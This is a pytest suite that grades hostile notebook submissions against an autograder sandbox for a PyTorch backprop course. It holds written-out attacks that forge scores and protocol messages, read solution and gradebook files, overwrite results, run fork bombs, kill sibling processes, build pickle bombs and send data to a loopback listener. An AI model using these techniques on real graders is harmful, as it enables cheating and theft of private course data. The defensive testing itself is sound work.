"""Hostile submissions graded end to end (`backprop-ninja grade --jobs 2`, in process) in batches with
honest ones, with the repository's course.yml (copied with small limits and a salt of its own, its
`autotests` pointing at the repository's suite).

Batches: honest (the three honest submissions alone, the yardstick); mixed (the same three and every
attack below); killer (the three and one submission that kills other children); dos (one honest and one
notebook that crashes the static check). Each batch runs ~1-20 s.

Each hostile submission is the reference answers (full marks if nothing stopped it) with some answer
cells replaced by an attack, and a wrong answer wherever the attack would make a wrong answer pass.
Required of every one: its attacked tensors score 0 and it scores no more than its other cells earn;
every attacked cell is flagged, with evidence an instructor can read; every honest submission's result
is identical to its result in the batch without the hostile ones; nothing outside the work dir changes;
nothing it started outlives it; no secret reaches any result, and each result says which isolation was
in force.

Two families of attacks, each one that has been used on a real autograder:
- cheat-*: as a student would write them (import os, torch.allclose = ..., class Liar, .backward(), ...);
- sneak-*: the same attacks past the static check (`exec = exec`, `torch.special.torch`, see
  test_static_check), which is what the sandbox's inner walls are for.

Tests marked xfail(strict) are weaknesses of the grader, each named in its reason.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import secrets
import shutil
import socket
import tempfile
import time
import uuid
from pathlib import Path

import nbformat
import pytest
import torch
import torch.nn.functional as F
import yaml
from click.testing import CliRunner

from grader.cli import main
from grader.exercises.makemore_mlp import EXERCISE
from grader.extract import read as read_notebook
from grader.judge.compare import compare
from grader.judge.configs import generate
from grader.judge.exam import checks
from helpers.cases import first_scored
from helpers.children import alive_with, kill_siblings, tracked_children
from helpers.notebooks import markdown_cell, reference_sources, submission, write
from helpers.paths import COURSE_FILE, ROOT

AUTOTESTS = ROOT / "autotests"
KNOWN_MISTAKES = AUTOTESTS / "known_mistakes.yml"
SOLUTIONS = ROOT / "solutions" / "backprop_ninja_solved.ipynb"
# What only the solved notebook holds: nbgrader's solution regions (a released notebook has none).
SOLVED_ONLY = "### BEGIN SOLUTION"
RAW_COURSE = yaml.safe_load(COURSE_FILE.read_text())
POINTS = {g: float(p) for g, p in RAW_COURSE["points"].items()}
MAX_SCORE = sum(POINTS.values())
REFERENCE = reference_sources()
NB = "backprop_ninja"
LIMITS = {"timeout_seconds": 30, "cell_timeout_seconds": 2, "memory_mb": 2048, "file_size_mb": 16, "processes": 64}

# ---------------------------------------------------------------------------------------------
# Weaknesses, reported (each test that shows one is xfail(strict) with its reason)


# ---------------------------------------------------------------------------------------------
# The attacks: submission -> attacked answer cell -> how it must be flagged ("cell": a flag naming the
# cell; "run": the sandbox flag of a run the notebook ended), and known weaknesses per cell.

ATTACKS = {
    "cheat-compare": {"dlogprobs": "cell", "dprobs": "cell", "dcounts_sum_inv": "cell", "dcounts_sum": "cell",
                      "dcounts": "cell", "dnorm_logits": "cell"},
    "cheat-exit": {"dlogit_maxes": "cell", "dlogits": "cell", "dh": "cell", "dW2": "cell"},
    "cheat-files": {"db2": "cell", "dhpreact": "cell", "dbngain": "cell", "dbnbias": "cell", "dbnraw": "cell",
                    "dbnvar_inv": "cell", "dbnvar": "cell", "dbndiff2": "cell"},
    "cheat-resources": {"ex2_dlogits": "cell", "dbnmeani": "cell", "dhprebn": "cell", "dembcat": "cell"},
    "cheat-autograd": {"dprobs": "cell", "dcounts_sum_inv": "cell", "dcounts_sum": "cell", "dnorm_logits": "cell",
                       "dh": "cell", "ex4_backward": "cell"},
    "cheat-runtime-autograd": {"dbnraw": "cell", "dbnvar_inv": "cell"},
    "sneak-autograd": {"dprobs": "cell", "dh": "cell"},
    "sneak-files": {"dcounts": "cell", "dnorm_logits": "cell", "dlogit_maxes": "cell", "dlogits": "cell",
                    "dh": "cell", "dW2": "cell", "db2": "cell", "dhpreact": "cell", "dbngain": "cell"},
    "sneak-procs": {"dlogprobs": "cell", "dprobs": "cell", "dcounts_sum_inv": "cell", "dcounts": "cell"},
    "sneak-lies": {"dlogprobs": "cell", "dprobs": "cell", "dcounts_sum_inv": "cell", "dcounts_sum": "cell",
                   "dcounts": "cell"},
    "sneak-protocol": {"dprobs": "cell"},
}
UNFLAGGED: dict[tuple[str, str], str] = {}
HONEST = ("honest-a", "honest-b", "honest-c")


def _grade_ids(cell: str) -> list[str]:
    """The grade ids an answer cell's code decides: its own, and for exercise 4's cell every graded check
    of the whole function that is not one answer (e.g. the training run)."""
    ids = [a.grade_id for a in EXERCISE.answers if a.cell_id == cell]
    if cell == EXERCISE.functions[0].cell:
        ids += [g for g in POINTS if g not in EXERCISE.by_grade_id]
    return ids


def _exec(code: str) -> str:
    """A cell that runs `code` past the static check (static_check exempts a builtin the cell assigns)."""
    return f"exec = exec\nexec({code!r})\n"


def _stub_cells() -> dict[str, str]:
    stub = read_notebook("stub", ROOT / "assignments" / RAW_COURSE["assignment"] / RAW_COURSE["notebook"],
                         EXERCISE.answer_cells)
    assert stub.error is None and not stub.problems
    return stub.cells


def _sleep_marker() -> str:
    return f"{900 + secrets.randbelow(90)}.{secrets.randbelow(10**9):09d}"


# ---------------------------------------------------------------------------------------------
# The world: a throw-away course, canaries, four batches


class World:
    def __init__(self):
        self.listener = None
        self.shared, self.sleepers = {}, {}
        self.base = Path(tempfile.mkdtemp(prefix="bpn-adversarial-"))

    def build(self):
        self.base.chmod(0o755)  # traversable by nobody: only the sandbox's hiding keeps the child out
        token = uuid.uuid4().hex
        self.canary = {k: f"CANARY-{k}-{secrets.token_hex(6)}" for k in
                       ("salt", "solutions", "gradebook", "notebook", "grades", "planted")}
        self.course = self._dir("course")
        raw = dict(RAW_COURSE, limits=LIMITS, autotests=str(AUTOTESTS), secret_salt=self.canary["salt"])
        self.course_file = self._file(self.course / "course.yml", yaml.safe_dump(raw, sort_keys=False))
        self._dir("course/solutions")
        self._file(self.course / "solutions" / SOLUTIONS.name,
                   f"# {self.canary['solutions']}\n" + SOLUTIONS.read_text())
        self.gradebook = self._file(self.course / "gradebook.db", self.canary["gradebook"] + "\n")
        self.open = self._dir("canary", 0o777)  # world-writable and not hidden: only a write wall protects it
        self._file(self.open / "canary.txt", self.canary["planted"] + "\n", 0o666)
        self.outs = {k: self.base / f"out-{k}" for k in ("honest", "mixed", "killer", "dos")}
        self._dir("out-mixed")
        self.previous = self._file(self.outs["mixed"] / "previous-grades.csv", self.canary["grades"] + "\n")
        self.shared = {"tmp": Path(f"/tmp/bpn-adversarial-{token}"),
                       "dev-shm": Path(f"/dev/shm/bpn-adversarial-{token}")}
        self.unpickled = self.base / "unpickled"
        self.sleepers = {"setsid": _sleep_marker(), "bomb": _sleep_marker()}
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.setblocking(False)
        self.port = self.listener.getsockname()[1]
        self.first_case = generate("makemore-mlp", self.canary["salt"], raw["configurations"])[0].name
        self.subs = {k: self._dir(k) for k in ("honest", "mixed", "killer", "dos")}
        self.sources: dict[str, dict[str, str]] = {}

    def _dir(self, rel: str, mode: int = 0o755) -> Path:
        path = self.base / rel
        path.mkdir(parents=True, exist_ok=True)
        path.chmod(mode)
        return path

    @staticmethod
    def _file(path: Path, text: str, mode: int = 0o644) -> Path:
        path.write_text(text)
        path.chmod(mode)
        return path

    def notebook_path(self, batch: str, sid: str) -> Path:
        return self.subs[batch] / sid / f"{NB}.ipynb"

    def cleanup(self):
        if self.listener is not None:
            self.listener.close()
        for path in self.shared.values():
            path.unlink(missing_ok=True)
        for marker in self.sleepers.values():
            for pid in alive_with(marker):
                try:
                    os.kill(pid, 9)  # our own leftovers, found by their unique command line
                except ProcessLookupError:
                    pass
        shutil.rmtree(self.base, ignore_errors=True)


def honest_notebooks() -> dict[str, nbformat.NotebookNode]:
    stub = _stub_cells()
    half = set(EXERCISE.atomic[len(EXERCISE.atomic) // 2:]) | {"ex2_dlogits", "ex3_dhprebn", "ex4_backward"}
    return {
        "honest-a": submission(),
        # two typical mistakes: the branch through counts_sum missed, the lecture's (H,)-shaped dbnmeani
        "honest-b": submission(replace={"dcounts": "dcounts = counts_sum_inv * dprobs\n",
                                        "dbnmeani": "dbnmeani = (-dbndiff).sum(0)\n"}),
        # half blank: the second half as released
        "honest-c": submission(replace={g: stub[g] for g in half}),
    }


# Every autograd route, each computing the right answer (test_the_autograd_attacks_would_be_right_if_run)
CHEAT_AUTOGRAD = {
    "dprobs": "p = probs.detach().clone().requires_grad_()\n(p.log() * dlogprobs).sum().backward()\ndprobs = p.grad\n",
    "dcounts_sum_inv": "c = counts_sum_inv.detach().clone().requires_grad_()\n"
                       "dcounts_sum_inv, = torch.autograd.grad((counts * c * dprobs).sum(), c)\n",
    "dcounts_sum": "_, pullback = torch.func.vjp(lambda s: s**-1, counts_sum)\n"
                   "dcounts_sum = pullback(dcounts_sum_inv)[0]\n",
    "dnorm_logits": "import torch.autograd.forward_ad as fwAD\nwith fwAD.dual_level():\n"
                    "    dual = fwAD.make_dual(norm_logits, torch.ones_like(norm_logits))\n"
                    "    dnorm_logits = fwAD.unpack_dual(dual.exp()).tangent * dcounts\n",
    "dh": "dh = torch.func.grad(lambda a: ((a @ W2) * dlogits).sum())(h)\n",
    "ex4_backward": REFERENCE["ex4_backward"].replace(
        "def manual_backward(params, cache, Yb):",
        "def manual_backward(params, cache, Yb):\n    torch.autograd.backward([])", 1),
}


def hostile_sources(w: World) -> dict[str, dict[str, str]]:
    out = w.outs["mixed"]
    honest_nb = str(w.notebook_path("mixed", "honest-a"))
    grader_pid = os.getpid()
    course = {k: str(w.course / k) for k in ("course.yml", f"solutions/{SOLUTIONS.name}", "gradebook.db")}
    report = "raise ValueError('REPORT ' + repr(res)[:480])\n"
    planted = [str(w.shared["tmp"]), str(w.shared["dev-shm"]), str(w.open / "planted.txt"), str(w.open / "canary.txt")]
    forged = [str(out / "sneak-files" / (NB + ".json")), str(out / "forged.json"), str(w.previous)]
    liar = ("class Liar(torch.Tensor):\n    @classmethod\n"
            "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n        return True\n")
    sources = {
        "cheat-compare": {
            "dlogprobs": "torch.allclose = lambda *args, **kwargs: True\ndlogprobs = torch.zeros_like(logprobs)\n",
            "dprobs": "torch.equal = lambda *args, **kwargs: True\ndprobs = torch.ones_like(probs)\n",
            "dcounts_sum_inv": "torch.Tensor.__eq__ = lambda self, other: True\n"
                               "dcounts_sum_inv = torch.zeros_like(counts_sum_inv)\n",
            "dcounts_sum": liar + "dcounts_sum = torch.zeros_like(counts_sum).as_subclass(Liar)\n",
            "dcounts": "print('score: 47/47')\nprint('{\"score\": 47.0, \"max_score\": 47.0, \"tests\": []}')\n"
                       "dcounts = torch.zeros_like(counts)\n",
            "dnorm_logits": "import os\n"
                            "os.write(1, b'\\x00\\x00\\x00\\x20\\x00\\x00\\x00\\x00"
                            "{\"op\": \"answer\", \"status\": \"x\"}')\n"
                            "os.write(2, b'score: 47/47\\n')\ndnorm_logits = torch.zeros_like(norm_logits)\n",
        },
        "cheat-exit": {
            "dlogit_maxes": "import sys\nsys.exit(0)\n",
            "dlogits": "dlogits = torch.zeros_like(logits)\nraise SystemExit(0)\n",
            "dh": "dh = torch.zeros_like(h)\nexit(0)\n",
            "dW2": "import os\nos._exit(0)\n",
        },
        "cheat-files": {
            "db2": f"open({str(out / 'cheat-files' / (NB + '.json'))!r}, 'w').write('{{\"score\": 47.0}}')\n"
                   "db2 = torch.zeros_like(b2)\n",
            "dhpreact": f"answers = open({course[f'solutions/{SOLUTIONS.name}']!r}).read()\n"
                        "dhpreact = torch.zeros_like(hpreact)\n",
            "dbngain": f"salt = open({course['course.yml']!r}).read()\ndbngain = torch.zeros_like(bngain)\n",
            "dbnbias": f"other = open({honest_nb!r}).read()\ndbnbias = torch.zeros_like(bnbias)\n",
            "dbnraw": f"open({course['gradebook.db']!r}, 'a').write('dbnraw: 1')\ndbnraw = torch.zeros_like(bnraw)\n",
            "dbnvar_inv": f"open({str(w.shared['tmp'])!r}, 'w').write('x')\ndbnvar_inv = torch.zeros_like(bnvar_inv)\n",
            "dbnvar": f"answers = torch.load({course['gradebook.db']!r})\ndbnvar = torch.zeros_like(bnvar)\n",
            "dbndiff2": f"torch.save(probs, {str(w.open / 'probs.pt')!r})\ndbndiff2 = torch.zeros_like(bndiff2)\n",
        },
        "cheat-resources": {
            "ex2_dlogits": "while True:\n    pass\n",
            "dbnmeani": "big = torch.empty(10 * 2**30)\n" + REFERENCE["dbnmeani"],
            "dhprebn": "import os\nfor i in range(500):\n"
                       "    if os.fork() == 0:\n        import time\n        time.sleep(30)\n",
            "dembcat": f"import socket\ns = socket.create_connection(('127.0.0.1', {w.port}))\n"
                       "s.sendall(b'exfiltrated')\ndembcat = torch.zeros_like(embcat)\n",
        },
        "cheat-autograd": CHEAT_AUTOGRAD,
        # past the static check, caught at run time by the autograd watch
        "cheat-runtime-autograd": {
            "dbnraw": "scratch = torch.ones(1, requires_grad=True)\n" + REFERENCE["dbnraw"],
            "dbnvar_inv": "_, f = torch.special.torch.func.vjp(lambda v: bndiff * v, bnvar_inv)\n"
                          "dbnvar_inv = f(dbnraw)[0]\n",
        },
        "sneak-autograd": {
            "dprobs": _exec(
                "p = probs.detach().clone()\np.requires_grad = True\n"
                "dprobs = torch.autograd.grad(p.log(), p, dlogprobs)[0].detach()\n"
                "[c.cell_contents.clear() for c in getattr(torch.autograd.grad, '_' + '_closure_' + '_')"
                " if isinstance(c.cell_contents, list)]\n"
                "del p\n"),
            # torch.special.torch only (no builtin rebinding): the watch's record is emptied through the
            # closure of the wrapper it put on torch.autograd.functional.vjp
            "dh": "attribute = torch.special.torch.serialization.sys.modules['builtins'].getattr\n"
                  "vjp = torch.special.torch.autograd.functional.vjp\n"
                  "dh = vjp(lambda a: a @ W2, h, dlogits)[1]\n"
                  "[c.cell_contents.clear() for c in attribute(vjp, '_' + '_closure_' + '_')"
                  " if isinstance(c.cell_contents, list)]\n",
        },
        "sneak-files": {
            # read, and leak what was read through the error message, which becomes the student's feedback
            "dcounts": _exec(f"text = open({str(KNOWN_MISTAKES)!r}).read()\nraise ValueError('LEAK ' + text[:400])\n"),
            "dnorm_logits": _exec(f"text = open({str(SOLUTIONS)!r}).read()\n"
                                  f"raise ValueError('LEAK ' + text[text.index({SOLVED_ONLY!r}):][:400])\n"),
            "dlogit_maxes": _exec(
                "res = {}\n"
                f"for key, path in {course!r}.items():\n"
                "    try:\n        res[key] = open(path).read(100)\n"
                "    except OSError as e:\n        res[key] = repr(e)\n" + report),
            "dlogits": _exec(
                "res = {}\n"
                f"for key, path in {{'notebook': {honest_nb!r}, 'grades': {str(w.previous)!r}}}.items():\n"
                "    try:\n        res[key] = open(path).read(100)\n"
                "    except OSError as e:\n        res[key] = repr(e)\n" + report),
            "dh": _exec(
                "res = {}\n"
                f"for path in ['/proc/{grader_pid}/root{course['course.yml']}',"
                f" '/proc/1/root{course['gradebook.db']}']:\n"
                "    try:\n        res[path] = open(path).read(100)\n"
                "    except OSError as e:\n        res[path] = repr(e)\n" + report),
            "dW2": _exec(
                "res = {}\n"
                f"for path in {planted!r}:\n"
                "    try:\n        open(path, 'a').write('written by a submission')\n        res[path] = 'written'\n"
                "    except OSError as e:\n        res[path] = repr(e)\n" + report),
            "db2": _exec(
                "res = {}\n"
                f"for path in {forged!r}:\n"
                "    try:\n        open(path, 'w').write('{\"score\": 47.0, \"max_score\": 47.0}')\n"
                "        res[path] = 'written'\n"
                "    except OSError as e:\n        res[path] = repr(e)\n" + report),
            "dhpreact": _exec(
                "res = {}\n"
                f"for path in {[course['gradebook.db'], course['course.yml'], str(w.course / 'planted.py')]!r}:\n"
                "    try:\n        open(path, 'a').write('written by a submission')\n        res[path] = 'written'\n"
                "    except OSError as e:\n        res[path] = repr(e)\n" + report),
            "dbngain": _exec(
                f"open({honest_nb!r}, 'w').write('{{}}')\n"),
        },
        "sneak-procs": {
            "dlogprobs": _exec(
                "import os\npid = os.fork()\nif pid == 0:\n    os.setsid()\n"
                f"    try:\n        os.execv('/bin/sleep', ['sleep', {w.sleepers['setsid']!r}])\n"
                "    finally:\n        os._exit(1)\n"),
            "dprobs": _exec(
                "import os\nfor i in range(500):\n"
                "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
                "    if pid == 0:\n        try:\n"
                f"            os.execv('/bin/sleep', ['sleep', {w.sleepers['bomb']!r}])\n"
                "        finally:\n            os._exit(1)\n"),
            "dcounts_sum_inv": _exec(
                f"import socket\ns = socket.create_connection(('127.0.0.1', {w.port}), timeout=1)\n"
                "s.sendall(b'exfiltrated')\n"),
            # the in-child cell timer switched off: only the parent's deadline can stop it
            "dcounts": _exec("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass\n"),
        },
        "sneak-lies": {
            "dlogprobs": "setattr = setattr\n"
                         "setattr(torch.special.torch, 'allclose', lambda *args, **kwargs: True)\n"
                         "setattr(torch.special.torch, 'equal', lambda *args, **kwargs: True)\n"
                         "setattr(torch.special.torch.Tensor, '_' + '_eq_' + '_', lambda self, other: True)\n"
                         "dlogprobs = torch.zeros_like(logprobs)\n",
            "dprobs": "type = type\nclassmethod = classmethod\n"
                      "Liar = type('Liar', (torch.Tensor,), "
                      "{'_' + '_torch_function_' + '_': classmethod(lambda *a, **k: True)})\n"
                      "dprobs = torch.zeros_like(probs).as_subclass(Liar)\n",
            "dcounts_sum_inv": "type = type\nopen = open\n"
                               "Bomb = type('Bomb', (), {'_' + '_reduce_' + '_': lambda self: (open, ("
                               f"{str(w.unpickled)!r}, 'w'))}})\n"
                               "dcounts_sum_inv = Bomb()\n",
            "dcounts_sum": "type = type\nopen = open\n"
                           "Sub = type('Sub', (torch.Tensor,), {'_' + '_reduce_ex_' + '_': lambda self, p: (open, ("
                           f"{str(w.unpickled)!r}, 'w'))}})\n"
                           "dcounts_sum = torch.zeros_like(counts_sum).as_subclass(Sub)\n",
            # a forged protocol message and a fake score on fds 1 and 2, then a wrong answer
            "dcounts": _exec("import os, json, struct\n"
                             "forged = json.dumps({'op': 'answer', 'status': 'tensor', 'score': 47}).encode()\n"
                             "os.write(1, struct.pack('>II', len(forged), 0) + forged)\n"
                             "os.write(2, b'score: 47/47\\n')\n") + "dcounts = torch.zeros_like(counts)\n",
        },
        "sneak-protocol": {
            # a forged reply on the real protocol pipe for the request being answered, then exit
            "dprobs": _exec(
                "import os, json, struct, fcntl\n"
                f"header = json.dumps({{'op': 'answer', 'grade_id': 'dprobs', 'case': {w.first_case!r},"
                " 'check': 'local',"
                " 'status': 'blank', 'variable': 'forged'}).encode()\n"
                "for fd in range(3, 64):\n"
                "    try:\n"
                "        link = os.readlink('/proc/self/fd/%d' % fd)\n"
                "        mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE\n"
                "    except OSError:\n        continue\n"
                "    if link.startswith('pipe:') and mode == os.O_WRONLY:\n"
                "        os.write(fd, struct.pack('>II', len(header), 0) + header)\n"
                "os._exit(0)\n"),
        },
    }
    assert {k: set(v) for k, v in sources.items()} == {k: set(v) for k, v in ATTACKS.items()}
    return sources


def killer_source() -> str:
    """Tries to kill every process whose parent is this grader (the other children), for 4 s."""
    return _exec(kill_siblings(4) + "dprobs = torch.zeros_like(probs)\n")


def fingerprint(root: Path) -> dict[str, tuple]:
    """relative path -> (size, mtime_ns, sha256, mode) of every file and folder under `root`."""
    found = {}
    for path in sorted([root, *root.rglob("*")]):
        st = path.lstat()
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None
        found[path.relative_to(root).as_posix()] = (st.st_size if path.is_file() else None,
                                            st.st_mtime_ns, digest, st.st_mode)
    return found


def grade_batch(w: World, batch: str):
    started = time.monotonic()
    with tracked_children():
        result = CliRunner().invoke(main, ["grade", str(w.subs[batch]), "--out", str(w.outs[batch]),
                                           "--course", str(w.course_file), "--jobs", "2"])
    results = {}
    if w.outs[batch].is_dir():
        for path in sorted(w.outs[batch].rglob("*.json")):
            results[path.relative_to(w.outs[batch]).with_suffix("").as_posix()] = json.loads(path.read_text())
    return {"exit": result.exit_code, "output": result.output, "exception": result.exception,
            "results": results, "seconds": time.monotonic() - started}


@pytest.fixture(scope="module")
def world():
    w = World()
    try:
        w.build()
        honest = honest_notebooks()
        w.sources = hostile_sources(w)
        for batch in ("honest", "mixed", "killer"):
            for sid, nb in honest.items():
                write(w.notebook_path(batch, sid), nb)
        # the honest notebook the hostile ones try to read carries a canary in a cell of its own
        nb = honest["honest-a"]
        nb.cells.append(markdown_cell(w.canary["notebook"], cell_id="canary"))
        for batch in ("honest", "mixed", "killer", "dos"):
            write(w.notebook_path(batch, "honest-a"), nb)
        for name, cells in w.sources.items():
            write(w.notebook_path("mixed", name), submission(replace=cells))
        write(w.notebook_path("killer", "0-killer"), submission(replace={"dprobs": killer_source()}))
        write(w.notebook_path("dos", "0-dos"), submission(replace={"dlogprobs": "x = Xb" + ".T" * 100_000 + "\n"}))
        for folder in w.subs.values():
            for path in folder.rglob("*"):
                path.chmod(0o755 if path.is_dir() else 0o644)
        watched = {"course": w.course, "canary": w.open, **{f"submissions-{k}": v for k, v in w.subs.items()}}
        w.before = {k: fingerprint(v) for k, v in watched.items()}
        w.previous_before = w.previous.read_bytes()
        w.batches = {batch: grade_batch(w, batch) for batch in ("honest", "mixed", "killer", "dos")}
        w.after = {k: fingerprint(v) for k, v in watched.items()}
        w.left = {}
        for name, marker in w.sleepers.items():
            deadline = time.monotonic() + 5
            while (left := alive_with(marker)) and time.monotonic() < deadline:
                time.sleep(0.05)
            w.left[name] = left
        try:
            w.connection = w.listener.accept()
        except BlockingIOError:
            w.connection = None
        yield w
    finally:
        w.cleanup()


def _results(world, batch):
    return world.batches[batch]["results"]


def _sid(name: str) -> str:
    return f"{name}/{NB}"


def _without_time(result: dict) -> dict:
    """What must not depend on the rest of the batch: every score and status, the flags, the isolation, and
    the feedback of every test that lost points (a passing test's feedback may report timings)."""
    def masked(text):
        return re.sub(r"\d+(\.\d+)?(e-?\d+)?", "#", text) if isinstance(text, str) else text

    return {
        "score": result["score"], "max_score": result["max_score"], "output": masked(result.get("output")),
        "tests": [(t["name"], t["score"], t["max_score"], t["status"], None if t["status"] == "passed" else t["output"])
                  for t in result["tests"]],
        "flags": [{k: masked(v) for k, v in f.items()} for f in result["flags"]],
        "extra_data": {k: v for k, v in result.get("extra_data", {}).items() if k != "path"},
    }


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


# ---------------------------------------------------------------------------------------------
# The batches finish


def test_the_honest_batch_exits_0_with_a_result_each(world):
    batch = world.batches["honest"]
    assert batch["exit"] == 0, (batch["output"][-2000:], batch["exception"])
    assert set(batch["results"]) == {_sid(s) for s in HONEST}


def test_the_mixed_batch_exits_0(world):
    batch = world.batches["mixed"]
    assert batch["exit"] == 0, (batch["output"][-2000:], batch["exception"])


def test_the_mixed_batch_has_a_result_per_submission_and_only_the_forger_a_grader_error(world):
    batch = world.batches["mixed"]
    assert batch["exception"] is None or isinstance(batch["exception"], SystemExit), batch["exception"]
    assert set(batch["results"]) == {_sid(s) for s in (*HONEST, *ATTACKS)}
    with_errors = {sid for sid, r in batch["results"].items() if any(f["kind"] == "grader-error" for f in r["flags"])}
    assert with_errors <= {_sid("sneak-protocol")}, with_errors


def test_the_batches_stay_bounded_in_time(world):
    for name, batch in world.batches.items():
        assert batch["seconds"] < 60, (name, batch["seconds"])


# ---------------------------------------------------------------------------------------------
# Honest submissions get exactly what they get alone


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_result_is_identical_with_hostile_submissions_in_the_batch(world, name):
    alone = _results(world, "honest")[_sid(name)]
    mixed = _results(world, "mixed")[_sid(name)]
    assert _without_time(mixed) == _without_time(alone)


def test_the_honest_results_are_what_the_honest_submissions_deserve(world):
    alone = _results(world, "honest")
    a, b, c = (alone[_sid(s)] for s in HONEST)
    assert a["score"] == MAX_SCORE and a["flags"] == []
    scores_b = {t["name"]: t["score"] for t in b["tests"]}
    assert scores_b["dcounts"] == 0 and scores_b["dbnmeani"] == 0.5 * POINTS["dbnmeani"]
    assert b["score"] == MAX_SCORE - POINTS["dcounts"] - 0.5 * POINTS["dbnmeani"]
    assert 0 < c["score"] < MAX_SCORE / 2 + 1 and c["flags"] == []


def test_honest_results_are_identical_next_to_a_submission_that_kills_other_children(world):
    batch = world.batches["killer"]
    assert batch["exit"] == 0
    for name in HONEST:
        assert _without_time(batch["results"][_sid(name)]) == _without_time(_results(world, "honest")[_sid(name)]), name


def test_the_killer_itself_gains_nothing_and_is_flagged(world):
    killer = world.batches["killer"]["results"][_sid("0-killer")]
    assert {t["name"]: t["score"] for t in killer["tests"]}["dprobs"] == 0
    assert any(f.get("grade_id") == "dprobs" or f.get("cell") == "dprobs" for f in killer["flags"]), killer["flags"]


def test_a_notebook_that_crashes_the_static_check_does_not_stop_the_batch(world):
    batch = world.batches["dos"]
    assert batch["exit"] == 0, (batch["output"][-1500:], repr(batch["exception"]))
    honest = _results(world, "honest")[_sid("honest-a")]
    assert _without_time(batch["results"][_sid("honest-a")]) == _without_time(honest)
    assert batch["results"][_sid("0-dos")]["flags"]


# ---------------------------------------------------------------------------------------------
# Hostile submissions gain nothing and are flagged


@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_hostile_submission_gains_nothing(world, name):
    result = _results(world, "mixed")[_sid(name)]
    scores = {t["name"]: t["score"] for t in result["tests"]}
    attacked = [g for cell in ATTACKS[name] for g in _grade_ids(cell)]
    assert {g: scores[g] for g in attacked} == dict.fromkeys(attacked, 0)
    assert result["score"] <= MAX_SCORE - sum(POINTS[g] for g in attacked) + 1e-9


def _flag_params():
    for name, cells in ATTACKS.items():
        for cell, how in cells.items():
            marks = ([pytest.mark.xfail(strict=True, reason=UNFLAGGED[(name, cell)])]
                     if (name, cell) in UNFLAGGED else [])
            yield pytest.param(name, cell, how, id=f"{name}-{cell}", marks=marks)


@pytest.mark.parametrize("name, cell, how", list(_flag_params()))
def test_every_attacked_cell_is_flagged(world, name, cell, how):
    flags = _results(world, "mixed")[_sid(name)]["flags"]
    if how == "run":
        assert any(f["kind"] == "sandbox" for f in flags), flags
    else:
        grade_ids = set(_grade_ids(cell))
        assert any(f["kind"] != "grader-error" and (f.get("cell") == cell or f.get("grade_id") in grade_ids)
                   for f in flags), flags


def test_every_flag_carries_evidence_an_instructor_can_read(world):
    count = 0
    for batch in world.batches.values():
        for sid, result in batch["results"].items():
            for flag in result["flags"]:
                count += 1
                assert isinstance(flag.get("kind"), str) and flag["kind"], (sid, flag)
                evidence = flag.get("evidence")
                assert isinstance(evidence, str) and len(evidence.strip()) >= 10, (sid, flag)
                assert sum(ch.isalpha() for ch in evidence) >= 10, (sid, flag)
    assert count >= len(ATTACKS)


def test_a_static_check_flag_quotes_the_refused_line(world):
    for name, cells in world.sources.items():
        result = _results(world, "mixed")[_sid(name)]
        for flag in result["flags"]:
            if flag["kind"] != "static-check":
                continue
            source = cells.get(flag["cell"]) or REFERENCE[flag["cell"]]
            assert flag["evidence"].startswith("line "), flag
            lines = [line.strip() for line in source.splitlines() if line.strip()]
            assert any(flag["evidence"].endswith(": " + line) for line in lines), (flag, source)


def test_the_autograd_attacks_would_be_right_if_run():
    """Without the walls, each autograd cell of cheat-autograd would earn its points."""
    case = first_scored("adversarial-autograd")
    cells = {**REFERENCE, **CHEAT_AUTOGRAD}
    for cell in ("dprobs", "dcounts_sum_inv", "dcounts_sum", "dnorm_logits", "dh"):
        answer = EXERCISE.by_grade_id[cell]
        for check in checks(answer):
            ns = {**case.student_view(), **case.upstream(answer, check), "n": case.n, "torch": torch, "F": F}
            exec(compile(cells[cell], f"<attack {cell}>", "exec"), ns)
            comparison = compare(ns[answer.variable].detach(), case.expected(answer, check), rtol=1e-5, atol=1e-8)
            assert comparison.passed, (cell, check, comparison.message)


# ---------------------------------------------------------------------------------------------
# Secrets never reach a result; nothing outside the work dir changes; nothing is left running


def _all_text(world) -> str:
    parts = []
    for batch in world.batches.values():
        parts.append(batch["output"])
        for result in batch["results"].values():
            parts.extend(_strings(result))
    for path in world.outs["mixed"].rglob("*"):
        if path.is_file() and path != world.previous:
            parts.append(path.read_text(errors="replace"))
    return "\n".join(parts)


@pytest.mark.parametrize("secret", [
    "salt", "solutions", "gradebook", "notebook", "grades",
    "hidden-suite",
    "checkout-solutions",
])
def test_no_secret_reaches_any_result(world, secret):
    text = _all_text(world)
    if secret == "hidden-suite":
        needle = KNOWN_MISTAKES.read_text()[:80]
    elif secret == "checkout-solutions":
        needle = SOLVED_ONLY
    else:
        needle = world.canary[secret]
    assert needle not in text


def test_the_course_folder_is_unchanged(world):
    assert world.after["course"] == world.before["course"]


@pytest.mark.parametrize("batch", ["honest", "mixed", "killer", "dos"])
def test_the_submitted_files_are_unchanged(world, batch):
    assert world.after[f"submissions-{batch}"] == world.before[f"submissions-{batch}"]


def test_the_results_folder_holds_only_what_the_grader_wrote(world):
    out = world.outs["mixed"]
    files = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    expected = sorted([*(f"{_sid(s)}.json" for s in (*HONEST, *ATTACKS)), "grades.csv", "previous-grades.csv"])
    assert files == expected
    assert world.previous.read_bytes() == world.previous_before


def test_a_world_writable_folder_outside_the_work_dir_is_unchanged(world):
    assert world.after["canary"] == world.before["canary"]


def test_nothing_appears_in_the_shared_temporary_folders(world):
    assert {k: p.exists() for k, p in world.shared.items()} == dict.fromkeys(world.shared, False)


@pytest.mark.parametrize("name", ["setsid", "bomb"])
def test_nothing_a_submission_started_is_left_running(world, name):
    assert world.left[name] == {}


def test_the_loopback_listener_never_received_a_connection(world):
    assert world.connection is None


def test_nothing_was_unpickled(world):
    assert not world.unpickled.exists()
